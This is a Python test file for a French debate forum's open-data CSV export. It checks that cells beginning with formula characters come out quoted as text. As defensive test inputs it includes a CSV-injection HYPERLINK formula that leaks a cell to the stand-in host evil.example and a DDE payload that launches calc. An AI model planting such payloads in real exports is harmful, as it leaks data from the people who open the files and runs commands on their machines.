"""No cell of a CSV file Palabre writes opens as a formula in a spreadsheet.

Titles, texts, meetings, theme and tag names that begin with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return (or blanks before one) reach the open-data file with a single
quote in front, read back as text; ``forum.csv_files`` is the one writer for it.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from forum import csv_files
from forum.extensions import db
from forum.models import Contribution, Phase
from moderation import tags
from moderation.models import TagFamily
from tests import builders
from tests.builders_moderation import make_team, offline_entry
from tests.conftest import login, post_form

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
# Blanks before a dangerous character, and the full-width forms some spreadsheets read.
DISGUISED = [" =", "\t=", "\r\n+", "\u00a0-", "\u3000@", "＝", "＋", "－", "＠"]
QUOTED_LINE = re.compile(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*')
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


def formula_like(cell: str) -> bool:
    return cell[:1] in csv_files.FORMULA_STARTS or cell.lstrip()[:1] in csv_files.FORMULA_STARTS


def as_text(stored: str) -> str:
    return "'" + stored if formula_like(stored) else stored


def read_csv(client, slug: str) -> list[dict[str, str]]:
    response = client.get(f"/open-data/{slug}/contributions.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.fixture
def team(app):
    return make_team()


def test_words_entered_through_the_site_reach_the_csv_as_text(client, team):
    """A participant's title and a moderator's meeting, typed in the forms."""
    login(client, team.participant)
    response = post_form(
        client,
        "/debates/tram/contribute",
        {
            "kind": "opinion",
            "title": HYPERLINK,
            "body": "@SUM(1+1)*cmd|' /C calc'!A0",
            "themes": team.debate.themes[0].id,
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    moderator = client.application.test_client()
    login(moderator, team.moderator)
    entered = offline_entry(team, event="+Réunion publique", title="-3", body="-3")
    assert post_form(moderator, "/moderation/tram/offline", entered).status_code == 302
    team.debate.phase = Phase.CLOSED
    db.session.commit()

    rows = read_csv(client, "tram")
    assert len(rows) == 2
    for row in rows:
        for name, cell in row.items():
            assert not formula_like(cell), (name, cell)
    online, offline = sorted(rows, key=lambda r: int(r["id"]))
    assert online["title"] == "'" + HYPERLINK
    assert online["text"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert offline["event"] == "'+Réunion publique"
    # A negative number typed as text is text too: it gets its quote like any other.
    assert offline["title"] == offline["text"] == "'-3"


@pytest.mark.parametrize("start", DANGEROUS + DISGUISED)
def test_every_text_column_is_neutralised(client, team, start):
    debate = team.debate
    theme = debate.themes[0]
    theme.name = f"{start}Thème"
    tag = tags.create_tag(debate, team.moderator, TagFamily.ARGUMENT, f"{start}étiquette")
    item = builders.make_contribution(
        debate, team.participant, title=f"{start}1+1", body=f"{start}cmd", themes=[theme]
    )
    item.event = f"{start}réunion"
    tags.attach(item, tag, team.moderator)
    debate.phase = Phase.CLOSED
    db.session.commit()

    [row] = read_csv(client, debate.slug)
    for name, cell in row.items():
        assert not formula_like(cell), (name, cell)
    # Each text whole, behind a quote when it (as stored) would open as a formula.
    stored = db.session.get(Contribution, item.id)
    assert row["title"] == as_text(stored.title)
    assert row["text"] == as_text(stored.body_source)
    assert row["event"] == as_text(stored.event)
    assert row["themes"] == as_text(theme.name)
    assert row["tags"] == as_text(tag.name)


def test_every_field_is_quoted(client, team):
    """A French spreadsheet splits on ``;``: with every field quoted, a separator inside
    a text (``Avis;=1+1``) stays inside its quotes and never starts a cell of its own."""
    builders.make_contribution(team.debate, team.participant, title="Avis;=1+1", body='a"@b')
    team.debate.phase = Phase.CLOSED
    db.session.commit()
    text = client.get("/open-data/tram/contributions.csv").get_data(as_text=True)
    lines = text.splitlines()
    assert len(lines) == 2
    for line in lines:
        assert QUOTED_LINE.fullmatch(line), line
    assert '"Avis;=1+1","a""@b"' in lines[1]


@settings(max_examples=500, deadline=None)
@given(st.one_of(st.text(), st.integers(), st.none(), st.floats(allow_nan=False)))
@example("-3")
@example(HYPERLINK)
@example(" \t\r\n=1")
def test_no_neutralised_cell_reads_back_as_a_formula(value):
    buffer = io.StringIO()
    csv_files.writer(buffer).writerow([value, "après"])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    cell = row[0]
    assert row[1] == "après"
    if isinstance(value, str):
        assert not formula_like(cell)
        # Nothing is lost: the text is whole, behind at most one added quote.
        assert cell in (value, "'" + value)
        assert (cell != value) == formula_like(value)
    else:
        # A number the code writes (an id) stays a number, a negative one too.
        assert cell == ("" if value is None else str(value))
